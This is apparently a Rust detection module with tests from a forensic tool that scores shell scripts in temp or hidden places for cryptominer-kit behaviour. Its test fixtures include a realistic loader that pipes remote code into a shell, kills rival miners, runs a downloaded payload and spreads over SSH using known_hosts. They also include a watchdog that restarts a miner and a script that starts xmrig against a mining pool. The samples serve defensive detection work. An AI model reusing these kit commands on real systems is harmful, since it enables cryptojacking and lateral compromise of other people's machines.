//! Kit scripts at rest (`MT-EVA-051`, T1105/T1059.004): wrapper, downloader, spreader, watchdog and
//! rival-killer scripts in temporary or hidden places, judged by what their lines do, whether or not
//! anything runs them now. A dormant host (the miner was killed) keeps its loader; a running watchdog is
//! `bash` to the process table, and the script is what it runs.
//!
//! What a script does, each a kind (points):
//! - downloads and runs code (curl/wget piped into a shell, or saved then run), decodes base64 into a
//!   shell, opens a `/dev/tcp` socket (3);
//! - starts a miner (a miner option, a pool domain or a Monero wallet on a line that runs something) (3);
//! - spreads over SSH with the host's own `known_hosts` or private keys (2);
//! - kills rival miners (`pkill`/`kill`/`killall` of a miner name) or stops security agents (2);
//! - keeps a program alive (`pgrep`/`pidof` checks with a restart) (2);
//! - opens the host up (flushes iptables) (2); disabling ufw, firewalld or SELinux is agent tampering (above);
//! - unlocks or locks files with `chattr` (2); tampers with shell history (1).
//!
//! Place adds one point: only scripts in temp or hidden places are judged (a home's visible files only
//! with two kinds or more); scripts in system directories are the admin's (a cleanup script full of
//! rival names stays out). A CI job script a CI executor runs as a job step (`support::ci_job_step`:
//! Jenkins's `/tmp/jenkins123.sh`, a runner's `/tmp/build_script_*/script.sh`) sits in temp by design
//! and installs its tools the way their vendors document (`curl https://sh.rustup.rs | sh`): neither
//! its place nor its downloads count; every other kind does (a job that starts a miner, kills rivals or
//! spreads is judged as any script). Severity: 2-3 medium, 4-6 high, 7+ critical; one weak kind alone (history)
//! is low. Programs in temp or hidden places a high script runs are subjects too (the kit's programs:
//! the dropper's payload, the miner a watchdog restarts). Persistence files, web roots and shell histories are judged by their own rules.

use minetrace_schemas::findings::{Finding, Severity};
use minetrace_schemas::records::file::{FileKind, FileRecord};

use super::common::{self, describe_file, quote_line, Score};
use crate::detect::finding::{file_subject, finding, FindingExt};
use crate::detect::rules;
use crate::detect::runtime::support;
use crate::detect::Context;
use crate::indicators::{Kind, PathClass};
use crate::parse::shell_line::{self, ShellLine};
use crate::parse::{basename, contains, numbered_lines};

/// Lines of one script read at most.
const MAX_LINES: usize = 2_000;

/// A shell script by its first line or its name.
fn is_script(f: &FileRecord, bytes: &[u8]) -> bool {
    let name = basename(f.path.as_bytes());
    bytes.starts_with(b"#!")
        || [&b".sh"[..], b".bash", b".ksh", b".zsh"]
            .iter()
            .any(|e| name.ends_with(e))
}

/// One kind of behaviour found, with the line that shows it.
struct Kind1 {
    points: u32,
    what: String,
    line: u32,
    text: Vec<u8>,
}

fn kill_words(s: &ShellLine) -> bool {
    s.commands
        .iter()
        .any(|c| matches!(c.as_slice(), b"pkill" | b"kill" | b"killall" | b"xargs"))
}

/// What one script does (see the module documentation), by kind, first line of each.
fn kinds_of(ctx: &Context, bytes: &[u8]) -> (Vec<Kind1>, Vec<Vec<u8>>) {
    let mut kinds: Vec<Kind1> = Vec::new();
    let mut runs: Vec<Vec<u8>> = Vec::new();
    let mut add = |points: u32, what: &str, line: u32, text: &[u8]| {
        if !kinds.iter().any(|k| k.what == what) {
            kinds.push(Kind1 {
                points,
                what: what.to_owned(),
                line,
                text: text.to_vec(),
            });
        }
    };
    let mut checks_alive = false;
    for (n, raw) in numbered_lines(bytes).take(MAX_LINES) {
        let line = raw.trim_ascii();
        if line.is_empty() || line.starts_with(b"#") {
            continue;
        }
        let s = shell_line::analyze(line);
        let lossy = String::from_utf8_lossy(line).to_ascii_lowercase();
        if s.download_to_shell || s.download_then_exec {
            add(3, DOWNLOADS, n, line);
        }
        if s.decode_to_shell {
            add(3, "decodes base64 into a shell", n, line);
        }
        if s.dev_tcp {
            add(
                3,
                "opens a /dev/tcp socket (reverse shell or download without curl)",
                n,
                line,
            );
        }
        if !s.mention_only
            && (ctx.iocs.find_in(Kind::MinerFlag, &lossy).is_some()
                || !support::monero_addresses(line).is_empty()
                || s.urls.iter().any(|u| {
                    ctx.iocs
                        .find_in(Kind::PoolDomain, &String::from_utf8_lossy(u))
                        .is_some()
                }))
        {
            add(
                3,
                "starts a miner (miner options, a pool or a wallet)",
                n,
                line,
            );
        }
        if (contains(lossy.as_bytes(), b"known_hosts") || contains(line, b".ssh/id_"))
            && s.commands
                .iter()
                .any(|c| matches!(c.as_slice(), b"ssh" | b"scp" | b"sshpass"))
        {
            add(
                2,
                "spreads over SSH with the host's own known_hosts or keys",
                n,
                line,
            );
        }
        if kill_words(&s)
            && lossy
                .split(|c: char| !c.is_ascii_alphanumeric() && c != '_' && c != '-' && c != '.')
                .any(|w| ctx.iocs.contains(Kind::MinerName, w))
        {
            add(2, "kills rival miners", n, line);
        }
        if ctx.iocs.find_in(Kind::AgentTamper, &lossy).is_some() {
            add(2, "stops or removes security agents", n, line);
        }
        if s.commands
            .iter()
            .any(|c| matches!(c.as_slice(), b"pgrep" | b"pidof"))
        {
            checks_alive = true;
        }
        if checks_alive && s.ran.iter().any(|r| !r.sourced) && contains(line, b"&") {
            add(
                2,
                "keeps a program alive (restarts it when it is gone)",
                n,
                line,
            );
        }
        // Disabling ufw, firewalld or SELinux is in the agent_tamper table (counted above, once).
        if s.commands.iter().any(|c| c == b"iptables") && contains(line, b" -F") {
            add(2, "opens the host up (flushes the firewall)", n, line);
        }
        if s.commands.iter().any(|c| c == b"chattr") {
            add(2, "unlocks or locks files with chattr", n, line);
        }
        if !s.history_tamper.is_empty() {
            add(1, "tampers with shell history", n, line);
        }
        for p in s.executed {
            if runs.len() < 16 && !runs.contains(&p) {
                runs.push(p);
            }
        }
    }
    (kinds, runs)
}

/// What a CI job step tells about a script it runs: the executor, with the kinds it explains dropped.
fn ci_job<'a>(job_scripts: &'a [(Vec<u8>, String)], path: &[u8]) -> Option<&'a str> {
    job_scripts
        .iter()
        .find(|(s, _)| s.as_slice() == path)
        .map(|(_, e)| e.as_str())
}

/// The kind a CI job's script is expected to show (`ci_job`).
const DOWNLOADS: &str = "downloads code and runs it";

pub fn detect(ctx: &Context) -> Vec<Finding> {
    let classes = ctx.iocs.paths();
    let job_scripts: Vec<(Vec<u8>, String)> = ctx
        .model
        .processes
        .iter()
        .filter_map(|p| support::ci_job_step(ctx, p).map(|(executor, script)| (script, executor)))
        .collect();
    let mut out = Vec::new();
    for (f, bytes) in common::captured(ctx.model, |p| !common::is_run_by_line_path(p)) {
        let path = f.path.as_bytes();
        let kit_prone = classes.is(PathClass::KitProne, path);
        let home = classes.is(PathClass::Home, path);
        if !(kit_prone || home)
            || classes.is(PathClass::WebRoot, path)
            || common::is_history_path(path)
            || !is_script(f, bytes)
        {
            continue;
        }
        let (mut kinds, runs) = kinds_of(ctx, bytes);
        let ci = ci_job(&job_scripts, path);
        if ci.is_some() {
            kinds.retain(|k| k.what != DOWNLOADS);
        }
        if kinds.is_empty() || (!kit_prone && kinds.len() < 2) {
            continue;
        }
        // The executor wrote it there: the place explains nothing about the job.
        let kit_prone = kit_prone && ci.is_none();
        let mut score = Score::default();
        for k in &kinds {
            score.add(k.points, k.what.clone());
        }
        if kit_prone {
            score.add(1, "in a temp or hidden place, where kits are dropped");
        }
        let Some(severity) = score.severity() else {
            continue;
        };
        let mut finding = finding(&rules::EVA_051, severity).subject(file_subject(f));
        for k in &kinds {
            finding = finding.evidence(format!(
                "{}: {}",
                k.what,
                quote_line(&f.path, k.line, &k.text)
            ));
        }
        if kit_prone {
            finding = finding.evidence("in a temp or hidden place, where kits are dropped");
        }
        if let Some(executor) = ci {
            finding = finding.evidence(format!(
                "run as a job step by the CI executor {}: its place and its downloads are how CI jobs work and do not count",
                support::q(executor)
            ));
        }
        // The kit's programs: what a high kit script runs from temp or hidden places, on disk.
        if severity >= Severity::High {
            for p in runs.iter().filter(|p| classes.is(PathClass::KitProne, p)) {
                if let Some(target) = ctx.model.file_aliased(p).filter(|t| {
                    t.kind == FileKind::Regular
                        && t.path.as_bytes() != path
                        && common::looks_executable(ctx.model, t)
                }) {
                    finding = finding.subject(file_subject(target)).evidence(format!(
                        "runs {} ({})",
                        target.path.escaped(),
                        describe_file(target)
                    ));
                }
            }
        }
        out.push(finding.evidence(format!("file: {}", describe_file(f))));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::indicators::Indicators;
    use crate::model::fixture;

    #[test]
    fn kit_scripts_by_what_they_do_and_where() {
        let mut ldr = fixture::file(
            b"/tmp/ldr.sh",
            Some(b"#!/bin/sh\nget() { curl -fsSL \"$1\" || wget -q -O - \"$1\"; }\npkill -9 -f kdevtmpfsi; pkill -9 -f xmrig\ncurl -fsSL http://1.2.3.4/sys > /tmp/sys && chmod +x /tmp/sys && /tmp/sys &\nfor h in $(grep -oE \"[0-9.]+\" ~/.ssh/known_hosts); do ssh -oBatchMode=yes root@$h 'curl -fsSL http://1.2.3.4/ldr.sh|sh' & done\n"),
        );
        ldr.0.mode = 0o755;
        let mut payload = fixture::file(b"/tmp/sys", Some(b"\x7fELF...."));
        payload.0.mode = 0o755;
        let model = fixture::model(
            vec![
                ldr,
                payload,
                fixture::file(
                    b"/var/tmp/.update-logs/update",
                    Some(b"#!/bin/bash\nwhile true; do\n  sleep 600\n  if ! pgrep -x Opera >/dev/null; then\n    ./Opera -c config.json >/dev/null 2>&1 &\n  fi\n  pkill -9 -f xmrig\ndone\n"),
                ),
                // The admin's cleanup script names rivals too, but lives in a system directory.
                fixture::file(
                    b"/usr/local/sbin/miner-cleanup.sh",
                    Some(b"#!/bin/sh\npkill -f kdevtmpfsi; pkill -f xmrig; chattr -i /tmp/kdevtmpfsi\n"),
                ),
                // A CI job script in /tmp: builds and tests, nothing else.
                fixture::file(
                    b"/tmp/build_script_7f2c/script.sh",
                    Some(b"#!/usr/bin/env bash\nset -eo pipefail\ncd /builds/app\ntimeout 900 python3 tests/wait.py\ncargo test --release\n"),
                ),
                // A developer's install notes in a visible home directory: one kind only.
                fixture::file(
                    b"/home/dev/setup.sh",
                    Some(b"#!/bin/sh\ncurl -fsSL https://sh.rustup.rs | sh -s -- -y\n"),
                ),
            ],
            vec![],
        );
        let iocs = Indicators::builtin();
        let ctx = Context {
            model: &model,
            iocs: &iocs,
        };
        let found = detect(&ctx);
        let sev = |path: &str| {
            found
                .iter()
                .find(|f| {
                    f.iter_subjects().next().is_some_and(|s| {
                        matches!(s, minetrace_schemas::findings::Subject::File { path: p, .. } if p.as_bytes() == path.as_bytes())
                    })
                })
                .map(|f| f.severity)
        };
        assert_eq!(sev("/tmp/ldr.sh"), Some(Severity::Critical), "{found:#?}");
        assert_eq!(sev("/var/tmp/.update-logs/update"), Some(Severity::High));
        assert_eq!(sev("/usr/local/sbin/miner-cleanup.sh"), None);
        assert_eq!(sev("/tmp/build_script_7f2c/script.sh"), None);
        assert_eq!(sev("/home/dev/setup.sh"), None);
        let ldr = found
            .iter()
            .find(|f| f.evidence.iter().any(|e| e.contains("/tmp/ldr.sh")))
            .expect("ldr.sh");
        assert!(
            ldr.iter_subjects().any(|s| matches!(s, minetrace_schemas::findings::Subject::File { path, .. } if path.as_bytes() == b"/tmp/sys")),
            "the payload it downloads and runs is a subject"
        );
    }

    /// A process in a CI job's environment (the variables its executor sets for each job).
    fn in_job(
        mut p: minetrace_schemas::records::process::ProcessRecord,
    ) -> minetrace_schemas::records::process::ProcessRecord {
        p.env.push(minetrace_schemas::records::process::EnvVar {
            name: minetrace_schemas::RawBytes::from(&b"CI_JOB_ID"[..]),
            value: None,
        });
        p
    }

    /// Review s4 item 8: a CI job script in /tmp that installs its toolchain with `curl | sh` is a job
    /// step of its runner (the build tool ancestry's twin for CI executors); the same bytes run by a shell
    /// under a web server, or a job script that starts a miner, are judged as any script.
    #[test]
    fn a_ci_job_scripts_place_and_downloads_do_not_count() {
        let job = b"#!/usr/bin/env bash\nset -eo pipefail\ncurl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y --profile minimal --default-toolchain 1.83.0\ncargo test\n";
        let miner_job = b"#!/bin/sh\ncurl -fsSL https://x.example/x | sh\n./xmrig --donate-level 1 -o stratum+tcp://pool.supportxmr.com:3333\n";
        let model = fixture::model_with_processes(
            vec![
                fixture::file(b"/tmp/build_script_7f2c/script.sh", Some(job)),
                fixture::file(b"/tmp/build_script_9a1b/script.sh", Some(miner_job)),
                fixture::file(b"/tmp/php-dl.sh", Some(job)),
            ],
            vec![],
            vec![
                fixture::process(
                    10,
                    1,
                    0,
                    b"/usr/local/bin/gitlab-runner",
                    &[b"/usr/local/bin/gitlab-runner", b"run"],
                ),
                in_job(fixture::process(
                    11,
                    10,
                    997,
                    b"/usr/bin/bash",
                    &[b"bash", b"/tmp/build_script_7f2c/script.sh"],
                )),
                in_job(fixture::process(
                    12,
                    10,
                    997,
                    b"/usr/bin/bash",
                    &[b"bash", b"/tmp/build_script_9a1b/script.sh"],
                )),
                fixture::process(20, 1, 33, b"/usr/sbin/php-fpm8.2", &[b"php-fpm: pool www"]),
                fixture::process(21, 20, 33, b"/usr/bin/bash", &[b"bash", b"/tmp/php-dl.sh"]),
            ],
        );
        let iocs = Indicators::builtin();
        let found = detect(&Context {
            model: &model,
            iocs: &iocs,
        });
        let sev = |path: &str| {
            found
                .iter()
                .find(|f| f.evidence.iter().any(|e| e.contains(path)))
                .map(|f| f.severity)
        };
        assert_eq!(sev("/tmp/build_script_7f2c/script.sh"), None, "{found:#?}");
        assert!(sev("/tmp/build_script_9a1b/script.sh") >= Some(Severity::Medium));
        assert_eq!(sev("/tmp/php-dl.sh"), Some(Severity::High));
    }
}
